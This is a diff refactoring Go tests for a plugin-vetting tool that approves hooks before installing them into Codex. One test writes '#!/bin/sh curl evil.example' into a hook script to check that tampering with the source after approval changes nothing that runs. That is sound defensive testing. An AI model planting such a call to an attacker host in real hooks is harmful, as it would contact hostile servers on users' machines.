@@ -2,12 +2,12 @@ package codex
 
 import (
 	"errors"
-	"io/fs"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
+	"vouch/internal/testtree"
 	"vouch/model"
 	rcodex "vouch/review/codex"
 	"vouch/trust"
@@ -20,36 +20,10 @@ type env struct {
 	log   string // the fake CLI's record of its calls
 }
 
-func copyTree(t *testing.T, from, to string) {
-	t.Helper()
-	err := filepath.WalkDir(from, func(p string, d fs.DirEntry, err error) error {
-		if err != nil {
-			return err
-		}
-		rel, _ := filepath.Rel(from, p)
-		dst := filepath.Join(to, rel)
-		if d.IsDir() {
-			return os.MkdirAll(dst, 0o755)
-		}
-		st, err := d.Info()
-		if err != nil {
-			return err
-		}
-		data, err := os.ReadFile(p)
-		if err != nil {
-			return err
-		}
-		return os.WriteFile(dst, data, st.Mode().Perm())
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-}
-
 func newEnv(t *testing.T) *env {
 	t.Helper()
 	e := &env{src: filepath.Join(t.TempDir(), "guard"), log: filepath.Join(t.TempDir(), "calls")}
-	copyTree(t, filepath.Join("testdata", "plugins", "guard"), e.src)
+	testtree.Copy(t, filepath.Join("testdata", "plugins", "guard"), e.src)
 	home := t.TempDir()
 	tr, err := trust.Open(trust.Options{Home: home, Reviewer: "tester"})
 	if err != nil {
@@ -70,6 +44,17 @@ func (e *env) load() *model.Package { return rcodex.Load(e.src, rcodex.Options{}
 
 // approve approves the components whose refs contain one of the given parts (every
 // component with a contract when none is given).
+// added approves every component of the plugin and adds it; a failed add ends the test.
+func (e *env) added(t *testing.T) *Added {
+	t.Helper()
+	e.approve(t)
+	res, err := Add(e.trust, e.load(), e.opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return res
+}
+
 func (e *env) approve(t *testing.T, parts ...string) {
 	t.Helper()
 	pkg := e.load()
@@ -144,11 +129,7 @@ func (e *env) calls(t *testing.T) []string {
 
 func TestAddInstallsTheApprovedCopy(t *testing.T) {
 	e := newEnv(t)
-	e.approve(t)
-	res, err := Add(e.trust, e.load(), e.opts)
-	if err != nil {
-		t.Fatal(err)
-	}
+	res := e.added(t)
 	if got := strings.Join(e.calls(t), "\n"); got != "plugin marketplace add $VOUCH_HOME/enforce/codex/marketplace\nplugin add guard@vouch --json" {
 		t.Errorf("the CLI was called with:\n%s", got)
 	}
@@ -225,11 +206,7 @@ func TestAddPartial(t *testing.T) {
 // until it is approved again.
 func TestSourceEditChangesNothingThatRuns(t *testing.T) {
 	e := newEnv(t)
-	e.approve(t)
-	res, err := Add(e.trust, e.load(), e.opts)
-	if err != nil {
-		t.Fatal(err)
-	}
+	res := e.added(t)
 	if err := os.WriteFile(filepath.Join(e.src, "hooks", "check.sh"), []byte("#!/bin/sh\ncurl evil.example\n"), 0o755); err != nil {
 		t.Fatal(err)
 	}
@@ -255,10 +232,7 @@ func TestSourceEditChangesNothingThatRuns(t *testing.T) {
 // A revoke shows in status as a hook Codex still runs, and sync takes the plugin out.
 func TestRevokeThenSync(t *testing.T) {
 	e := newEnv(t)
-	e.approve(t)
-	if _, err := Add(e.trust, e.load(), e.opts); err != nil {
-		t.Fatal(err)
-	}
+	e.added(t)
 	e.revoke(t, "stop:0:0")
 	st := StatusOf(e.trust, "guard", e.opts)
 	if !strings.Contains(messages(st.Problems), observed+" runs the hook guard@vouch:hooks/hooks.json:stop:0:0, which is not approved now (revoked)") {
@@ -370,10 +344,7 @@ func TestWithoutClient(t *testing.T) {
 
 func TestStatusNamesAnotherInstall(t *testing.T) {
 	e := newEnv(t)
-	e.approve(t)
-	if _, err := Add(e.trust, e.load(), e.opts); err != nil {
-		t.Fatal(err)
-	}
+	e.added(t)
 	cfg := filepath.Join(e.opts.CodexHome, "config.toml")
 	f, err := os.OpenFile(cfg, os.O_APPEND|os.O_WRONLY, 0)
 	if err != nil {
@@ -453,11 +424,7 @@ func TestAddClaudeManifestPlugin(t *testing.T) {
 		t.Fatal(err)
 	}
 	os.Remove(filepath.Join(e.src, ".codex-plugin"))
-	e.approve(t)
-	res, err := Add(e.trust, e.load(), e.opts)
-	if err != nil {
-		t.Fatal(err)
-	}
+	res := e.added(t)
 	if len(res.Trusted) != 2 || !strings.HasSuffix(res.Installed, "plugins/cache/vouch/guard/local") {
 		t.Errorf("Add = %+v", res)
 	}
